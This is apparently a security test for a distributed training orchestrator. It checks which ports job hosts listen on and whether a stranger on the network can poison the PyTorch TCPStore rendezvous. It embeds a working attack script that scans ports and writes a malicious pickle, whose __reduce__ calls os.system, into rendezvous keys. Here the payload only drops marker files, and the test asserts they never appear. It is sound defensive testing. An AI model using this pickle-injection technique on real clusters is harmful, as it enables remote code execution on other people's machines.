"""What a job's hosts listen on while it runs, and what a stranger on their network can do there."""

from __future__ import annotations

import json
import sys
import time

import pytest

from tests.support.lab import lab
from tests.support.terminal import Person

pytestmark = [pytest.mark.lab, pytest.mark.timeout(600)]

INVENTORY = """
cluster: ports
defaults: {device: cpu, bandwidth: 2.5Gbps, env: {OMP_NUM_THREADS: "1"}}
nodes:
  - {name: alpha, host: 10.77.14.1, master: true}
  - {name: beta, host: 10.77.14.2}
  - {name: mallory, host: 10.77.14.3}
"""
ADDRESSES = {"alpha": "10.77.14.1", "beta": "10.77.14.2"}
TRAINS = """
import os, pathlib, time
import torch, torch.distributed as dist
dist.init_process_group("gloo")
print("began", flush=True)
end = torch.zeros(1)
while not end:
    end[0] = float(pathlib.Path("end").exists())
    dist.all_reduce(end)
    time.sleep(0.05)
dist.barrier()
dist.destroy_process_group()
"""
# Says of each place whether anybody is let in, and lays into every store that answers what c10d's rendezvous unpickled.
ATTACK = """
import base64, json, os, pickle, signal, socket, sys
from datetime import timedelta
from torch.distributed import TCPStore

class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/was-here; echo was here > $HOME/was-here",)

def poison(host, port):
    store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
    bad = base64.b64encode(pickle.dumps(Payload()))
    for key in ("torch.rendezvous." + sys.argv[1], "torch.rendezvous.none"):
        store.set(key, bad)

found, children = {}, {}
for place in sys.argv[2:]:
    host, port = place.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=2).close()
    except OSError:
        found[place] = "closed"
        continue
    child = os.fork()
    if child == 0:
        signal.alarm(10)  # what is no store may never answer
        try:
            poison(host, int(port))
        except BaseException:
            os._exit(1)
        os._exit(0)
    children[place] = child
for place, child in children.items():
    found[place] = "open" if os.waitpid(child, 0)[1] else "store"
print(json.dumps(found), flush=True)
os._exit(0)  # to take torch down takes as long as a third of its start
"""

# Whether this kernel takes a socket filter of an ordinary user: one that lets everything pass.
MAY_FILTER = """
import ctypes, socket, struct
passes = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFFFFFF))
socket.socket().setsockopt(socket.SOL_SOCKET, 26, struct.pack("HL", 1, ctypes.addressof(passes)))
"""


@pytest.fixture(scope="module")
def person(tmp_path_factory):
    with lab(INVENTORY, torchrun=True) as three:
        folder = tmp_path_factory.mktemp("work")
        (folder / "code").mkdir()
        (folder / "code" / "trains.py").write_text(TRAINS)
        someone = Person(three, tmp_path_factory.mktemp("home"), folder)
        someone.types("up", str(three.inventory))
        yield someone


def listening(person: Person, name: str) -> list[str]:
    """Every place on this host where somebody waits for connections, but for its sshd."""
    rows = person.lab.host_exec(name, ["ss", "-ltnH"]).stdout.splitlines()
    return sorted(place for place in (row.split()[3] for row in rows) if not place.endswith(":22"))


def until_it_trains(person: Person, job: str) -> None:
    deadline = time.monotonic() + 120
    while True:
        logs = person.types("logs", "--job", job).stdout
        if logs.count("began") == 2:
            return
        assert time.monotonic() < deadline, logs
        time.sleep(0.5)


def test_nothing_listens_on_a_wildcard_and_what_is_laid_into_a_store_runs_nowhere(person):
    words = ("run", "--detach", "--nodes", "alpha,beta", "--", "code/trains.py")
    job = person.types(*words).stdout.strip().splitlines()[-1]
    until_it_trains(person, job)

    places = {name: listening(person, name) for name in ADDRESSES}
    for name, found in places.items():
        assert found, f"nothing listens on {name}"
        assert [place for place in found if place.rsplit(":", 1)[0] != ADDRESSES[name]] == []
    store = f"{ADDRESSES['alpha']}:{person.agent('alpha', job)['rendezvous_port']}"
    assert store in places["alpha"]

    everywhere = [place for found in places.values() for place in found]
    attack = [sys.executable, "-c", ATTACK, job, *everywhere]
    stranger = json.loads(person.lab.host_exec("mallory", attack, as_user=True).stdout)
    filters = person.lab.host_exec("alpha", [sys.executable, "-c", MAY_FILTER], as_user=True).returncode == 0
    assert stranger.pop(store) == ("closed" if filters else "store")
    assert "store" not in stranger.values()
    neighbour = json.loads(person.lab.host_exec("beta", [sys.executable, "-c", ATTACK, job, store]).stdout)
    assert neighbour[store] == "store"  # who has a login on one of the hosts can write there

    for name in ADDRESSES:
        person.lab.host_exec(name, ["touch", f"/home/lab/.orch/jobs/{job}/src/end"])
    found = wait_for_the_end(person, job)
    assert (found["state"], found["exit_code"]) == ("succeeded", 0)
    for name in ADDRESSES:
        assert person.lab.host_exec(name, ["ls", "/tmp/was-here", "/home/lab/was-here"]).returncode != 0


def wait_for_the_end(person: Person, job: str) -> dict:
    deadline = time.monotonic() + 60
    while (found := person.job(job))["state"] in ("starting", "running"):
        assert time.monotonic() < deadline, found
        time.sleep(0.5)
    return found
